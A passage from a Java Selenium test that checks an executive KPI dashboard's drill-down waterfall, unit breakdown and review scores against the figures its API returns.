        assertThat(browser.findElement(By.id("drill-none")).isDisplayed()).isEqualTo(!drivers && !breakdown);
        assertThat(drivers).as("the drivers of the change are shown").isTrue();

        JsonNode api = api("/api/v1/executive/kpis/ai-attributed-revenue/drivers?period=2025-Q3&by=unit&compareTo="
                + api("/api/v1/executive/ai-conversion?period=2025-Q3").path("previousPeriod").asText());
        BigDecimal before = new BigDecimal(drill.getAttribute("data-before"));
        BigDecimal after = new BigDecimal(drill.getAttribute("data-after"));
        BigDecimal change = new BigDecimal(drill.getAttribute("data-change"));
        assertThat(change).isEqualByComparingTo(api.path("change").decimalValue());
        assertThat(after.subtract(before)).isEqualByComparingTo(change);
        BigDecimal sum = BigDecimal.ZERO;
        List<WebElement> steps = browser.findElements(By.cssSelector("#drill-drivers tbody tr[data-member]"));
        assertThat(steps).hasSizeGreaterThanOrEqualTo(api.path("members").size());
        for (WebElement step : steps) {
            sum = sum.add(new BigDecimal(step.getAttribute("data-contribution")));
        }
        assertThat(sum).as("the drivers shown add up to the change shown").isEqualByComparingTo(change);
        // The waterfall draws before, each step and after.
        List<?> drawn = (List<?>) js("return JSON.parse(document.getElementById('chart-drivers').dataset.steps);");
        assertThat(drawn).hasSize(steps.size() + 2);
        assertThat(browser.findElement(By.id("chart-drivers")).findElements(By.tagName("canvas"))).isNotEmpty();
        Files.write(target.resolve("dashboard-drill.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));

        // The next level: a unit of the breakdown.
        assertThat(breakdown).as("the breakdown by unit is shown").isTrue();
        WebElement first = browser.findElement(By.cssSelector("#drill-breakdown tbody tr[data-member]"));
        String unit = first.getAttribute("data-member");
        first.click();
        wait.until(d -> unit.equals(d.findElement(By.id("drill")).getAttribute("data-scope"))
                && "true".equals(d.findElement(By.id("drill")).getAttribute("data-loaded")));
        assertThat(browser.findElement(By.id("drill-path")).getText()).contains(unit);
        assertThat(browser.findElement(By.id("error")).isDisplayed()).isFalse();
    }

    /** Every scope's block shows the API's score, and every KPI row its status, whether it counted and its actual. */
    private static void reviewShownAsTheApiAnswers(JsonNode review) {
        List<WebElement> blocks = browser.findElements(By.cssSelector("#reviews .review"));
        assertThat(blocks).as("the reviews shown (the box says: %s)",
                        browser.findElement(By.id("reviews")).getAttribute("textContent"))
                .extracting(b -> b.getAttribute("data-scope"))
                .containsExactlyElementsOf(names(review.path("scopes"), "scope"));
        for (int i = 0; i < blocks.size(); i++) {
            JsonNode scope = review.path("scopes").get(i);
            WebElement block = blocks.get(i);
            assertThat(new BigDecimal(block.getAttribute("data-score")))
                    .isEqualByComparingTo(scope.path("score").decimalValue());
            List<WebElement> rows = block.findElements(By.cssSelector("tbody tr"));
            assertThat(rows).extracting(r -> r.getAttribute("data-kpi"))
                    .containsExactlyElementsOf(names(scope.path("kpis"), "kpiId"));
            for (int k = 0; k < rows.size(); k++) {
                JsonNode kpi = scope.path("kpis").get(k);
                assertThat(rows.get(k).getAttribute("data-status")).isEqualTo(kpi.path("status").asText());
                assertThat(rows.get(k).getAttribute("data-counted")).isEqualTo(kpi.path("counted").asText());
                if (!kpi.path("actual").isNull()) {
                    assertThat(new BigDecimal(rows.get(k).getAttribute("data-actual")))
                            .isEqualByComparingTo(kpi.path("actual").decimalValue());
                }
            }
            Long bars = (Long) js("return echarts.getInstanceByDom(document.getElementById('review-"
                    + scope.path("scope").asText() + "')).getOption().series[0].data.length;");
            assertThat(bars).isEqualTo(scope.path("kpis").size());
        }
    }

    private static List<String> names(JsonNode array, String field) {
        List<String> names = new ArrayList<>();
        array.forEach(n -> names.add(n.path(field).asText()));
        return names;
    }
}
